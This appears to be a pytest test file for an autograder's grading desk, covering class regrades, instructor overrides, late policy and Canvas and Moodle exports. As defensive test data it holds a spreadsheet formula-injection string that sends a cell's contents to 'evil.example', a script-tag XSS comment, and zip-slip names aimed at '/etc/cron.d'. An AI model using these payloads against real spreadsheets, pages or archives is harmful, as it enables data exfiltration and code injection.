"""The instructor's desk from the command line (docs/desk.md): one class graded, then one student
regraded alone, overrides recorded, a plain re-run; the class files keep everyone and every
decision through all of it.

The class: alice (a Canvas download entry, submitted two days after the deadline), bob (a
Moodle folder, whose name holds markup and underscores), carol (a plain file), erin (a
truncated notebook), all graded without --exercise (the notebooks' metadata names it).
"""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder.batch.collect import LmsName, Submission
from autograder.batch.desk import decisions, feedback, files, overrides, policy
from autograder.errors import UsageError
from conftest import write_notebook
from corpus import CASES

CASE = {"alice": "reference", "bob": "lesson-as-printed", "carol": "mse-loss"}
DEADLINE = "2026-06-01T23:59:00+00:00"
MOODLE_NAME = "Bob <b>Smith & co_x"
BOB = MOODLE_NAME  # a Moodle download's student id is the name before the participant id
INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"see")'
HTML_COMMENT = "<script>alert('x')</script> well done"


@dataclass
class Stage:
    """What one run printed and left in --out."""

    status: int
    printed: str
    grades: list[dict[str, str]]
    grades_text: str
    canvas: str
    written: dict[str, int]  # the class files' modification times, in ns
    summary_html: str
    summary: dict
    decisions: list[tuple]


def snapshot(graded) -> Stage:
    out = graded.out
    text = (out / "grades.csv").read_text(encoding="utf-8")
    with sqlite3.connect(out / "gradebook.sqlite") as db:
        made = db.execute("SELECT kind, student, exercise, score, text, by FROM decisions ORDER BY seq").fetchall()
    written = {name: (out / name).stat().st_mtime_ns for name in ("grades.csv", "canvas-grades.csv",
                                                                   "feedback-moodle.zip", "summary.html")}
    return Stage(graded.status, graded.printed, list(csv.DictReader(io.StringIO(text))), text,
                 (out / "canvas-grades.csv").read_text(encoding="utf-8"), written, (out / "summary.html").read_text(),
                 json.loads((out / "summary.json").read_text()), made)


@pytest.fixture(scope="module")
def desk_class(tmp_path_factory, standin_file, warm_grader):
    root = tmp_path_factory.mktemp("desk")
    folder = root / "class"
    folder.mkdir()
    write_notebook(folder / "carol.ipynb", CASES[CASE["carol"]].cells, exercise="keras-dense")
    moodle = folder / f"{MOODLE_NAME}_4242_assignsubmission_file_"
    moodle.mkdir()
    write_notebook(moodle / "keras-dense.ipynb", CASES[CASE["bob"]].cells, exercise="keras-dense")
    (folder / "erin.ipynb").write_text('{"cells": [{"cell_type": "code", "sou')  # truncated
    archive = root / "canvas.zip"
    alice = write_notebook(root / "alice.ipynb", CASES[CASE["alice"]].cells, exercise="keras-dense")
    with zipfile.ZipFile(archive, "w") as z:
        z.write(alice, "alice_1001_2001_keras-dense.ipynb")
    rules = root / "policy.toml"
    rules.write_text(f'deadline = "{DEADLINE}"\nlate_penalty_per_day = 0.1\n[extensions]\ncarol = 3\n')
    times = root / "times.csv"
    times.write_text("student,submitted_at\nalice,2026-06-03T10:00:00+00:00\ncarol,2026-06-03T10:00:00+00:00\n")
    out = root / "out"
    desk = ("--policy", str(rules), "--times", str(times), "--format", "canvas", "--format", "moodle-feedback",
            "--data", str(standin_file))
    stages = {"first": snapshot(warm_grader.grade(str(folder), str(archive), *desk, out=out))}
    stages["first"].feedback = zipfile.ZipFile(out / "feedback-moodle.zip").namelist()  # type: ignore[attr-defined]
    # One student regraded alone, into the same --out: without the policy, times or formats,
    # which the gradebook keeps from the first run.
    data = ("--data", str(standin_file))
    stages["alone"] = snapshot(warm_grader.grade(str(folder / "carol.ipynb"), "--regrade", *data, out=out))
    # The instructor's overrides, given with the same student alone.
    table = root / "overrides.csv"
    with open(table, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student", "exercise", "score", "comment"])
        writer.writerow(["carol", "keras-dense", "77", INJECTED])
        writer.writerow(["erin", "", "50", "graded by hand: the file broke on upload"])
        writer.writerow([BOB, "", "", HTML_COMMENT])
    stages["overrides"] = snapshot(warm_grader.grade(str(folder / "carol.ipynb"), "--overrides", str(table), *data,
                                                     out=out))
    # The same overrides again, then a plain run of the whole class without them.
    stages["again"] = snapshot(warm_grader.grade(str(folder / "carol.ipynb"), "--overrides", str(table), *data,
                                                 out=out))
    stages["plain"] = snapshot(warm_grader.grade(str(folder), str(archive), *data, out=out))
    return root, out, stages


def rows_by_student(stage: Stage) -> dict[str, dict[str, str]]:
    return {row["student_id"]: row for row in stage.grades}


EVERYONE = sorted(["alice", BOB, "carol", "erin"])


@pytest.mark.slow
@pytest.mark.xdist_group("desk")
def test_regrading_one_student_keeps_the_whole_class(desk_class):
    _, out, stages = desk_class
    for name in ("first", "alone", "overrides", "again", "plain"):
        stage = stages[name]
        assert sorted(rows_by_student(stage)) == EVERYONE, name
        assert stage.summary["students"] == 4, name
        assert "alice" in stage.canvas and "Smith" not in stage.canvas, name  # bob has no Canvas id
        for student in ("alice", "carol", "erin"):
            assert f"<td>{student}<" in stage.summary_html, name
        assert "<td>Bob &lt;b&gt;Smith &amp; co_x<" in stage.summary_html, name
    alone = stages["alone"]
    assert all(alone.written[name] > stages["first"].written[name] for name in alone.written)  # none left stale
    assert "wrote " in alone.printed and "canvas-grades.csv" in alone.printed
    assert alone.summary["graded_this_run"] == 1 and alone.summary["kept_from_earlier_runs"] == 3
    assert "1 submission(s): 1 graded" in alone.printed
    assert "3 kept from earlier runs" in alone.printed
    assert "a minute" not in alone.summary_html  # no rate from one notebook
    # Carol's row is the same grade whether the class was graded whole or she alone.
    first, again = rows_by_student(stages["first"])["carol"], rows_by_student(alone)["carol"]
    assert {k: v for k, v in first.items() if k != "flags"} == {k: v for k, v in again.items() if k != "flags"}


@pytest.mark.slow
@pytest.mark.xdist_group("desk")
def test_overrides_change_the_score_not_the_graders_and_survive_reruns(desk_class):
    _, out, stages = desk_class
    before = rows_by_student(stages["first"])
    for name in ("overrides", "again", "plain"):
        rows = rows_by_student(stages[name])
        carol = rows["carol"]
        assert float(carol["score"]) == 77.0 and float(carol["override"]) == 77.0, name
        assert carol["auto_score"] == before["carol"]["auto_score"] != "77.0", name
        assert carol["comment"] == "'" + INJECTED, name  # kept, and never a formula
        erin = rows["erin"]
        assert erin["status"] == "invalid" and float(erin["score"]) == 50.0 and erin["auto_score"] == "", name
        assert rows[BOB]["comment"] == HTML_COMMENT and rows[BOB]["override"] == "", name
        assert rows[BOB]["score"] == before[BOB]["score"], name
        # The Canvas export carries the final grade.
        canvas = list(csv.reader(io.StringIO(stages[name].canvas)))
        assert [row for row in canvas if row[0] == "alice"][0][-1] == rows["alice"]["score"]
    # Recorded once, with who and when; a re-run with the same file records nothing again.
    made = stages["overrides"].decisions
    assert [(kind, student) for kind, student, *_ in made] == [("override", "carol"), ("override", "erin"),
                                                               ("comment", BOB)]
    assert all(by for *_, by in made)
    assert stages["again"].decisions == made and stages["plain"].decisions == made
    assert "recorded 3 decision(s)" in stages["overrides"].printed
    assert "recorded" not in stages["again"].printed
    # HTML in a comment is text in the summary.
    page = stages["overrides"].summary_html
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page


@pytest.mark.slow
@pytest.mark.xdist_group("desk")
def test_the_late_policy_and_extensions(desk_class):
    _, _, stages = desk_class
    rows = rows_by_student(stages["first"])
    assert rows_by_student(stages["plain"])["alice"]["late_penalty"] == rows["alice"]["late_penalty"]  # kept
    alice, carol = rows["alice"], rows["carol"]
    # Alice: two days (or part of one) after the deadline, 10% a day off the grader's 100.
    assert float(alice["auto_score"]) == 100.0 and float(alice["late_penalty"]) == 20.0
    assert float(alice["score"]) == 80.0 and alice["late"] == "yes"
    # Carol submitted at the same time, within her three days' extension.
    assert carol["late"] == "no" and carol["late_penalty"] == ""
    assert float(carol["score"]) == float(carol["auto_score"])
    # Without a time, the file name's word: bob's Moodle download says nothing.
    assert rows[BOB]["late"] == ""


@pytest.mark.slow
@pytest.mark.xdist_group("desk")
def test_an_unreadable_file_is_reported_first_with_counts_that_add_up(desk_class):
    _, _, stages = desk_class
    first = stages["first"]
    erin = rows_by_student(first)["erin"]
    assert "not valid JSON" in erin["reason"] and "no exercise" not in erin["reason"]
    lines = first.printed.splitlines()
    assert lines[0].startswith("not graded: ") and "erin.ipynb" in lines[0] and "not valid JSON" in lines[0]
    assert "4 submission(s): 3 graded, 1 could not be read or graded" in first.printed


@pytest.mark.slow
@pytest.mark.xdist_group("desk")
def test_the_summary_leads_with_the_students(desk_class):
    _, _, stages = desk_class
    page = stages["first"].summary_html
    assert page.index('id="students"') < page.index("Pass rate of every check") < page.index("Look at these")
    table = page[page.index('id="students"'):page.index("Pass rate of every check")]
    assert "<th scope=\"col\">Late</th>" in table and "<th scope=\"col\">First mistake</th>" in table
    assert "late" in table and "not valid JSON" in table
    assert "<b>Smith" not in table and "Bob &lt;b&gt;Smith" in table  # the id as read, its HTML escaped


@pytest.mark.slow
@pytest.mark.xdist_group("desk")
def test_the_moodle_feedback_zip(desk_class):
    _, out, stages = desk_class
    names = stages["first"].feedback
    with zipfile.ZipFile(out / "feedback-moodle.zip") as archive:
        names = archive.namelist()
        folder = "Bob b Smith co x_4242_assignsubmission_file"
        assert sorted(names) == [f"{folder}/grade-keras-dense.html", f"{folder}/report-keras-dense.html"]
        note = archive.read(f"{folder}/grade-keras-dense.html").decode()
    assert "&lt;script&gt;" in note and "<script>" not in note  # bob's comment, escaped
    assert "1 student(s); 3 without a Moodle participant id" in stages["first"].printed


# -- pure parts: no notebook runs ---------------------------------------------------------------


def final_for(name: LmsName, student: str = "mallory") -> decisions.Final:
    from autograder.batch.run import GradedSubmission

    outcome = GradedSubmission(Submission(student, "x.ipynb", b"{}", name), "keras-dense",
                               {"status": "graded", "score": 10.0, "max_score": 100.0})  # type: ignore[typeddict-item]
    return decisions.Final(outcome, 10.0, None, None, "")


def test_a_zip_slip_name_stays_in_its_folder(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    finals = [final_for(LmsName("../../../etc/cron.d/evil", "x", "moodle", "77")),
              final_for(LmsName("..", "x", "moodle", "78"), "dots"),
              final_for(LmsName("ok", "x", "moodle", "12/../../.."), "slash")]
    written = feedback.write_moodle(finals, tmp_path / "feedback.zip", lambda s: reports / f"{s}.html")
    assert written.students == 2 and written.left_out == ["slash"]
    with zipfile.ZipFile(written.path) as archive:
        for name in archive.namelist():
            parts = Path(name).parts
            assert len(parts) == 2 and ".." not in parts and not name.startswith("/"), name
            assert parts[0].split("_")[1] in ("77", "78") and parts[0].endswith("_assignsubmission_file")
    target = tmp_path / "unpacked"
    zipfile.ZipFile(written.path).extractall(target)
    assert all(path.resolve().is_relative_to(target.resolve()) for path in target.rglob("*"))


@pytest.mark.parametrize(("text", "reason"), [
    ("student,score\nnobody,\n", "line 2: neither a score nor a comment"),
    ("student,exercise,score,comment\ncarol,keras-dense,lots,\n", "line 2: score 'lots' is not a number"),
    ("student,exercise,score,comment\ncarol,,nan,\n", "line 2: score 'nan' must be a number"),
    ("student,exercise,score,comment\ncarol,,-5,\n", "line 2: score '-5' must be a number"),
    ("student,exercise,score,comment\ncarol,,5,\ncarol,,6,\n", "line 3: 'carol' is given twice"),
    ("name,score\nx,1\n", "line 1: the header must name the columns"),
    ("student,score,grade\nx,1,2\n", "line 1: unknown column 'grade'"),
    ("student,score\n,5\n", "line 2: no student"),
    ("student,score\nx,1,2,3\n", "line 2: 4 values for 2 columns"),
])
def test_a_bad_overrides_file_names_its_line(tmp_path, text, reason):
    path = tmp_path / "overrides.csv"
    path.write_text(text)
    with pytest.raises(UsageError) as raised:
        overrides.read(path)
    assert reason in str(raised.value) and str(path) in str(raised.value) and "\n" not in str(raised.value)


def test_an_override_for_someone_not_in_the_class_is_refused(tmp_path):
    path = tmp_path / "overrides.csv"
    path.write_text("student,exercise,score,comment\ncarol,,5,\nmallory,,100,\n")
    read = overrides.read(path)
    with pytest.raises(UsageError, match=r"line 3: no student 'mallory' in the class"):
        overrides.resolve(path, read, {"carol": {"keras-dense"}})
    with pytest.raises(UsageError, match=r"line 2: 'carol' has no submission of exercise 'keras-deeper'"):
        overrides.resolve(path, [overrides.Override(2, "carol", "keras-deeper", 1.0, "")], {"carol": {"keras-dense"}})


def test_an_override_for_someone_not_in_the_class_stops_grade_before_grading(tmp_path, warm_grader):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "erin.ipynb").write_text("{")
    path = tmp_path / "overrides.csv"
    path.write_text("student,exercise,score,comment\nmallory,keras-dense,100,\n")
    ran = warm_grader.main("grade", str(folder), "--out", str(tmp_path / "out"), "--overrides", str(path))
    assert ran.returncode == 2 and ran.stderr.count("\n") == 1
    assert "line 2: no student 'mallory' in the class" in ran.stderr
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_the_policy_file_is_the_services_keys(tmp_path):
    path = tmp_path / "course.toml"
    path.write_text('exercises = ["keras-dense"]\ndeadline = "2026-06-01T23:59:00+02:00"\n'
                    'late_penalty_per_day = 0.25\n[extensions]\nbob = 2\n')
    read = files.read_policy(path)
    assert read.late_penalty_per_day == 0.25 and read.deadline is not None
    assert policy.due(read, "bob") == policy.due(read, "alice") + 2 * policy.DAY_S
    path.write_text('deadline = "tomorrow"\n')
    with pytest.raises(UsageError, match=rf"^{path}: deadline: 'tomorrow' is not an ISO 8601 time"):
        files.read_policy(path)
    times = tmp_path / "times.csv"
    times.write_text("student,submitted_at\nbob,2026-06-01T10:00:00\n")
    with pytest.raises(UsageError, match="line 2: a student and a time with its zone"):
        files.read_times(times)


def test_decisions_apply_the_latest_and_keep_the_graders_score():
    def made_by(kind, student, exercise="keras-dense", score=None, text=None, until=None):
        return {"kind": kind, "student": student, "exercise": exercise, "score": score, "text": text, "until": until}

    made = [made_by("override", "a", score=50.0, text="first"), made_by("override", "a", score=60.0),
            made_by("comment", "a", text="later"), made_by("extension", "b", exercise=None, until=5.0)]
    decided = decisions.Decided.of(made)
    assert decided.overrides[("a", "keras-dense")]["score"] == 60.0 and decided.comment("a", "keras-dense") == "later"
    assert decided.extensions == {"b": 5.0}
    found = decisions.standing(policy.Policy(), decided, {"student": "a", "submitted_at": None, "score": 90.0})
    final = decisions.apply(final_for(LmsName("a", "x"), "a").outcome, found, decided)
    assert final.auto_score == 90.0 and final.override == 60.0 and final.outcome.result["score"] == 60.0


def test_a_schema_1_gradebook_is_upgraded_in_place(tmp_path):
    from autograder.batch.gradebook import Gradebook

    path = tmp_path / "gradebook.sqlite"
    with sqlite3.connect(path) as db:
        db.executescript("""
            CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL);
            INSERT INTO meta VALUES ('schema_version', '1');
            CREATE TABLE results (student TEXT NOT NULL, exercise TEXT NOT NULL, content_hash TEXT NOT NULL,
                rubric_hash TEXT NOT NULL, origin TEXT NOT NULL, status TEXT NOT NULL, score REAL NOT NULL,
                result TEXT NOT NULL, graded_at REAL NOT NULL, PRIMARY KEY (student, exercise));
            INSERT INTO results VALUES ('old', 'keras-dense', 'h', 'r', 'old.ipynb', 'graded', 5.0,
                '{"status": "graded", "score": 5.0}', 0);
        """)
    book = Gradebook(path)
    try:
        [(submission, exercise, result, when)] = book.kept()
        assert (submission.student, exercise, result["score"], when, submission.content) == \
            ("old", "keras-dense", 5.0, None, b"")
        book.decide("override", "old", "me", exercise="keras-dense", score=7.0)
        assert Gradebook(path).decisions()[0]["score"] == 7.0
    finally:
        book.close()


def test_a_regrade_keeps_the_time_given_before(tmp_path):
    from autograder.batch.gradebook import Gradebook

    book = Gradebook(tmp_path / "gradebook.sqlite")
    document = {"status": "graded", "score": 5.0}
    try:
        for digest, when in (("a", 1000.0), ("b", None)):  # given once, then a regrade without --times
            book.record("carol", "keras-dense", digest, "r", "carol.ipynb", document,  # type: ignore[arg-type]
                        Submission("carol", "carol.ipynb", b"{}"), when)
        [(_, _, _, submitted_at)] = book.kept()
        assert submitted_at == 1000.0
    finally:
        book.close()
